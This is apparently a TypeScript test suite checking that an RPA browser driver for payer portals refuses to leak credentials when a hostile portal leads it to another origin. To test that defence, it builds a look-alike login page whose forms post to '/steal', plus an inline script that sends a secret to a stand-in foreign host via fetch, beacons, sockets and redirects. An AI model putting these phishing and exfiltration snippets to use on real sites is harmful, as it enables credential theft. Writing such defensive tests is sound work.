import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Secret, TOTP } from 'otpauth';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RpaRunRecord, RunKind } from '#lib/entities/rpa';
import { uuidv7 } from '#lib/ids';
import { closeBrowser, FORBIDDEN_ARGS, launchBrowser } from '#lib/portal/browser';
import { type PortalCredentials, PortalFailure } from '#lib/portal/drivers/driver';
import { openPortalContext } from '#lib/portal/drivers/portal-context';
import { sandboxDriver } from '#lib/portal/drivers/sandbox';
import { dynamoAccountLeases } from '#lib/portal/dynamo-account-lease';
import { priorAuthorizationFormOf } from '#lib/portal/prior-authorization-form';
import { rpaWorker } from '#lib/portal/worker';
import { dynamoPortalAccountStore } from '#lib/portal-accounts/dynamo-portal-account-store';
import { openPortalCredentials } from '#lib/portal-accounts/open-credentials';
import { dynamoRequestStore } from '#lib/requests/dynamo-request-store';
import { dynamoRunStore } from '#lib/runs/dynamo-run-store';
import { s3ScreenshotStorage } from '#lib/runs/s3-screenshot-storage';
import type { HostileMode } from '#local/sandbox-portal/portal-state';
import { SANDBOX_USERS, sandboxSeed } from '#local/sandbox-portal/seed';
import { type SandboxPortal, startSandboxPortal } from '#local/sandbox-portal/server';
import { call, newTenant, uniqueId } from '#test/support/api';
import { newRequest } from './rpa-support.ts';

/*
 * Origin pinning (docs/sandbox-portal.md, "Origin pinning"): a sandbox portal that leads the browser
 * to a second loopback origin (a redirect, a frame, a form posting there, a 307 that re-posts the
 * sign-in form) never gets a credential to it: that origin receives no request at all, and the
 * driver (and a run) ends `unexpected_origin`. The real driver in the real Chromium, in both of its
 * process models: this machine's, and Lambda's --single-process.
 */

interface Received {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

/** The other origin: a look-alike sign-in page, recording every request it receives, bodies included. */
const startForeign = async () => {
  const received: Received[] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      received.push({
        method: req.method ?? '',
        url: req.url ?? '',
        headers: req.headers,
        body: Buffer.concat(chunks).toString(),
      });
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(
        '<body data-page="login"><form id="login-form" method="post" action="/steal"><input id="username" name="username"><input id="password" name="password" type="password"><button id="sign-in">Sign in</button></form><form id="totp-form" method="post" action="/steal"><input id="totp-code" name="code"><button id="verify">Verify</button></form></body>',
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    received,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
};

type Foreign = Awaited<ReturnType<typeof startForeign>>;
let foreign: Foreign;
beforeAll(async () => {
  foreign = await startForeign();
});
afterAll(async () => {
  await foreign.close();
});

const [plainUser, totpUser] = SANDBOX_USERS;
const TIMEOUT_MS = 10_000;

/** The TOTP codes valid around now (the driver's, whichever 30 s step it fell in). */
const currentCodes = (secret: string) => {
  const totp = new TOTP({ secret: Secret.fromBase32(secret), algorithm: 'SHA1', digits: 6, period: 30 });
  return [-30_000, 0, 30_000].map((offset) => totp.generate({ timestamp: Date.now() + offset }));
};

/** Nothing the other origin received carries a credential; and, stricter, it received nothing. */
const expectNothingReceived = (credentials: PortalCredentials) => {
  const secrets = [
    credentials.username,
    credentials.password,
    ...(credentials.totpSecret ? currentCodes(credentials.totpSecret) : []),
  ];
  for (const request of foreign.received) {
    const seen = `${request.url} ${JSON.stringify(request.headers)} ${request.body}`;
    for (const secret of secrets) expect(decodeURIComponent(seen)).not.toContain(secret);
  }
  expect(foreign.received).toEqual([]);
};

const outcomeOf = async (call: Promise<unknown>) => {
  const error = await call.then(
    () => undefined,
    (failure: unknown) => failure,
  );
  expect(error).toBeInstanceOf(PortalFailure);
  return error as PortalFailure;
};

/** The command lines of the Chromium processes this test process started. */
const browserCommandLines = (): string[][] =>
  readdirSync('/proc')
    .filter((entry) => /^\d+$/.test(entry))
    .flatMap((pid) => {
      try {
        const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
        const parent = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
        const commandLine = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').filter(Boolean);
        return parent === process.pid && commandLine.some((arg) => arg.startsWith('--remote-debugging-pipe'))
          ? [commandLine]
          : [];
      } catch {
        return []; // a process that ended meanwhile
      }
    });

const MODES: { mode: HostileMode; user: PortalCredentials; afterSignIn?: boolean }[] = [
  { mode: 'redirect-login', user: plainUser },
  { mode: 'frame-login', user: plainUser },
  { mode: 'post-login', user: plainUser },
  { mode: 'redirect-post', user: plainUser },
  { mode: 'post-totp', user: totpUser },
  { mode: 'redirect-status', user: plainUser, afterSignIn: true },
];

describe.each([
  { processes: "this machine's multi-process Chromium", singleProcess: false },
  { processes: "Lambda's --single-process Chromium", singleProcess: true },
])('origin pinning in $processes', ({ singleProcess }) => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser({ singleProcess });
  });
  afterAll(async () => {
    await closeBrowser(browser);
  });

  it('runs Chromium without the flags that switch off web security, site isolation or mixed-content blocking', () => {
    const commandLines = browserCommandLines();
    expect(commandLines.length).toBeGreaterThan(0);
    for (const commandLine of commandLines) {
      for (const forbidden of FORBIDDEN_ARGS) expect(commandLine.some((arg) => arg.startsWith(forbidden))).toBe(false);
      expect(commandLine.join(' ')).not.toMatch(/IsolateOrigins|site-per-process|--disable-web-security/);
    }
    // This describe's browser is among them, in its process model.
    expect(commandLines.some((commandLine) => commandLine.includes('--single-process') === singleProcess)).toBe(true);
  });

  for (const { mode, user, afterSignIn } of MODES) {
    it(`${mode}: the driver ends unexpected_origin and the other origin receives nothing`, async () => {
      foreign.received.length = 0;
      const portal: SandboxPortal = await startSandboxPortal({ hostile: { mode, origin: foreign.url } });
      try {
        const started = Date.now();
        const logIn = sandboxDriver.logIn(browser, user, { baseUrl: portal.url, timeoutMs: TIMEOUT_MS });
        let failure: PortalFailure;
        if (afterSignIn) {
          // The portal is itself until signed in; then its status lookup sends the browser elsewhere.
          const session = await logIn;
          try {
            failure = await outcomeOf(
              session.readAuthorizationStatus({ memberId: 'SBX-10001', requestExternalId: 'DEMO-APPROVED' }),
            );
          } finally {
            await session.close();
          }
        } else {
          failure = await outcomeOf(logIn);
        }
        expect(failure.outcome).toBe('unexpected_origin');
        expect(failure.message).not.toContain(foreign.url);
        // The session is ended when it strays, not at its timeout (which would be portal_timeout, after
        // TIMEOUT_MS): under a loaded CI the stray alone has taken 5 s, so the bound is the timeout itself.
        expect(Date.now() - started).toBeLessThan(TIMEOUT_MS);
        expectNothingReceived(user);
      } finally {
        await portal.close();
      }
    });
  }

  it('the context alone keeps scripts, beacons, sockets, frames, posts and redirect chains from another origin', async () => {
    foreign.received.length = 0;
    const secret = `secret-${randomBytes(6).toString('hex')}`;
    // A portal of the test's own, without the sandbox's Content-Security-Policy: only our layers stand in the way.
    const pages = createServer((req, res) => {
      const path = req.url ?? '/';
      if (path === '/hop') return res.writeHead(302, { location: '/hop-2' }).end();
      if (path === '/hop-2') return res.writeHead(307, { location: `${foreign.url}/chain?${secret}` }).end();
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<body data-page="home"><img src="${foreign.url}/img?${secret}"><script src="${foreign.url}/script.js"></script>
<link rel="stylesheet" href="${foreign.url}/style.css"><link rel="prefetch" href="${foreign.url}/prefetch">
<script>
fetch('${foreign.url}/fetch', { method: 'POST', body: '${secret}', mode: 'no-cors' }).catch(() => {});
navigator.sendBeacon('${foreign.url}/beacon', '${secret}');
try { new WebSocket('${foreign.url.replace('http', 'ws')}/socket?${secret}'); } catch {}
try { new EventSource('${foreign.url}/events?${secret}'); } catch {}
</script></body>`);
    });
    await new Promise<void>((resolve) => pages.listen(0, '127.0.0.1', resolve));
    const origin = `http://127.0.0.1:${(pages.address() as AddressInfo).port}`;
    try {
      // Subresources of another origin are aborted, and do not count as the portal leading elsewhere.
      const quiet = await openPortalContext(browser, { origins: [origin] });
      try {
        const page = await quiet.context.newPage();
        await page.goto(`${origin}/`);
        await page.waitForTimeout(500);
        // Dialogs are dismissed, never left waiting.
        expect(await page.evaluate('confirm("Leave this page?")')).toBe(false);
        expect(quiet.strayed).toBe(false);
        expect(() => quiet.checkPage(page)).not.toThrow();
      } finally {
        await quiet.close();
      }

      // A redirect chain that ends on another origin, a navigation there, a popup: each strays. The popup
      // opens in a browser of its own: under --single-process, window.open in any context but a browser's
      // first takes the whole browser down (Chromium 153, with or without our flags).
      const leads: [string, (page: Page) => Promise<unknown>][] = [
        ['a redirect chain', (page) => page.goto(`${origin}/hop`)],
        ['a navigation', (page) => page.goto(`${foreign.url}/direct?${secret}`)],
        ['a popup', (page) => page.evaluate(`window.open('${foreign.url}/popup?${secret}')`)],
      ];
      for (const [lead, go] of leads) {
        const own = lead === 'a popup' ? await launchBrowser({ singleProcess }) : browser;
        const portal = await openPortalContext(own, { origins: [origin] });
        try {
          const page = await portal.context.newPage();
          await page.goto(`${origin}/`);
          await go(page).catch(() => undefined);
          await expect.poll(() => portal.strayed, { message: lead }).toBe(true);
          expect(() => portal.checkPage(page)).toThrow(PortalFailure);
        } finally {
          await portal.close();
          if (own !== browser) await closeBrowser(own);
        }
      }
      expect(foreign.received).toEqual([]);
    } finally {
      await new Promise((resolve) => pages.close(resolve));
    }
  });
});

describe('a run whose portal leads elsewhere, and a portal answer that is not in form', () => {
  const PAYER = 'EHP01'; // the payer of test/support/fixtures.ts's requests
  let tenant: Awaited<ReturnType<typeof newTenant>>;
  let browser: Browser;
  const accountId = uniqueId('acct');

  beforeAll(async () => {
    tenant = await newTenant('rpa-origins');
    browser = await launchBrowser();
    const res = await call('POST', '/api/external/v1.1/Portals/accounts', {
      apiKey: tenant.apiKey,
      body: {
        externalId: accountId,
        clientUserId: tenant.clientUserId,
        portalId: 'sandbox',
        payerIds: [PAYER],
        username: plainUser.username,
        password: plainUser.password,
      },
    });
    expect(res.status, res.text).toBe(201);
  });
  afterAll(async () => {
    await closeBrowser(browser);
  });

  /** The worker with the real sandbox driver and browser, pointed at `portal`. */
  const workerFor = (portal: SandboxPortal) =>
    rpaWorker({
      runs: dynamoRunStore,
      requests: dynamoRequestStore,
      accounts: dynamoPortalAccountStore,
      leases: dynamoAccountLeases(),
      // Not what this test is about: the credentials opened here, as the run credentials function would.
      openCredentials: async ({ clientId, portalAccountId }) =>
        openPortalCredentials((await dynamoPortalAccountStore.get(clientId, portalAccountId))!),
      acquireBrowser: async () => browser,
      releaseBrowser: async () => undefined,
      driverFor: (portalId) => (portalId === 'sandbox' ? sandboxDriver : undefined),
      portalBaseUrl: (portalId) => (portalId === 'sandbox' ? portal.url : undefined),
      formOf: priorAuthorizationFormOf,
      screenshots: s3ScreenshotStorage,
      timeoutMs: TIMEOUT_MS,
    });

  const queuedRun = async (kind: RunKind, externalId: string) => {
    const at = new Date().toISOString();
    const run: RpaRunRecord = {
      clientId: tenant.clientId,
      externalId,
      runId: uuidv7(),
      kind,
      clientUserId: tenant.clientUserId,
      organizationId: tenant.organizationId,
      portalAccountId: accountId,
      portalId: 'sandbox',
      status: 'queued',
      steps: [{ at, step: 'queued' }],
      enteredValues: {},
      screenshots: [],
      version: 1,
      createdAt: at,
      updatedAt: at,
    };
    await dynamoRunStore.createRun(run);
    return { clientId: tenant.clientId, requestExternalId: externalId, runId: run.runId };
  };

  it('a portal that re-posts the sign-in form to another origin ends the run unexpected_origin', async () => {
    foreign.received.length = 0;
    const portal = await startSandboxPortal({ hostile: { mode: 'redirect-post', origin: foreign.url } });
    try {
      const input = await queuedRun('view-on-page', await newRequest(tenant.apiKey));
      const result = await workerFor(portal).fillPortalForm(input);
      expect(result).toEqual({ runId: input.runId, status: 'failed', outcome: 'unexpected_origin' });
      const run = (await dynamoRunStore.getRun({ ...input, externalId: input.requestExternalId }))!;
      expect(run.steps.at(-1)).toMatchObject({
        step: 'the portal led the browser outside its registered origins; the session was ended',
        detail: 'unexpected_origin',
      });
      expect(run.enteredValues).toEqual({});
      expectNothingReceived(plainUser);
    } finally {
      await portal.close();
    }
  });

  for (const [field, authorization, reason] of [
    ['number', { number: `<b>${'9'.repeat(1000)}</b>` }, 'authorization number'],
    ['decision date', { number: 'SBX-1', decisionDate: '2026-02-30' }, 'decision date'],
  ] as const) {
    it(`a status page whose ${field} is not in form: portal_error with our reason, and nothing of it stored`, async () => {
      const externalId = await newRequest(tenant.apiKey);
      const seed = {
        ...sandboxSeed,
        authorizations: [
          {
            memberId: 'MBR-0001',
            reference: externalId,
            status: 'approved' as const,
            fromDate: '2026-12-01',
            ...authorization,
          },
        ],
      };
      const portal = await startSandboxPortal({ seed });
      try {
        const input = await queuedRun('check-auth-status', externalId);
        // A batch's group of one run on the account, as the state machine hands it to the worker.
        const group = {
          clientId: input.clientId,
          batchId: 'batch-1',
          portalAccountId: accountId,
          items: [{ requestExternalId: externalId, runId: input.runId }],
        };
        expect(await workerFor(portal).checkPortalStatus(group)).toEqual({ remaining: [], more: false });
        const run = (await dynamoRunStore.getRun({ ...input, externalId }))!;
        expect(run).toMatchObject({ status: 'failed', outcome: 'portal_error' });
        const refused = run.steps.find((step) => step.step === "the portal's answer was refused");
        expect(refused?.detail).toContain(reason);
        expect(run.authorization).toBeUndefined();
        const request = await dynamoRequestStore.get(tenant.clientId, externalId);
        expect(request?.authorization).toMatchObject({ status: 'not_submitted', number: null, decisionDate: null });
        expect(JSON.stringify(run)).not.toContain('<b>');
      } finally {
        await portal.close();
      }
    });
  }
});
